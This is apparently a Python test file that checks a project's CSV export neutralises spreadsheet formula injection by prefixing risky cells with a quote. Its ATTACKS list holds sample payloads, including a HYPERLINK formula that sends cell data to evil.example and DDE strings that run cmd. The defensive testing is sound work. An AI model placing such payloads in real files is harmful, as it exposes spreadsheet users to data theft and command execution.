"""Every CSV the project writes opens in a spreadsheet as data, never as a formula."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cadence.kernel.csv_files import FORMULA_PREFIXES, csv_document, spreadsheet_cell

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Click")', "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1",
]  # fmt: skip


def read_back(document: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document)))


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(text):
    [_, row] = read_back(csv_document(header=["name"], rows=[[text]]))

    assert row == [f"'{text}"]


def test_numbers_and_plain_text_are_written_as_they_are():
    document = csv_document(
        header=["a", "b", "c", "d"], rows=[[-5, Decimal("-12.50"), "Ann", None]]
    )

    assert read_back(document)[1] == ["-5", "-12.50", "Ann", ""]


@given(st.text())
def test_no_text_cell_ever_starts_a_formula_and_nothing_is_lost(text):
    [_, [cell]] = read_back(csv_document(header=["x"], rows=[[text]]))

    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell == text or (cell == f"'{text}" and text.startswith(FORMULA_PREFIXES))
    assert spreadsheet_cell(text) == cell


def test_no_module_writes_csv_except_through_csv_document():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in ("cadence", "commerce", "lms", "payouts", "connectors")
        for path in (ROOT / app).rglob("*.py")
        if "tests" not in path.parts
        and path != ROOT / "cadence" / "kernel" / "csv_files.py"
        and writers.search(path.read_text())
    ]
    assert offenders == []
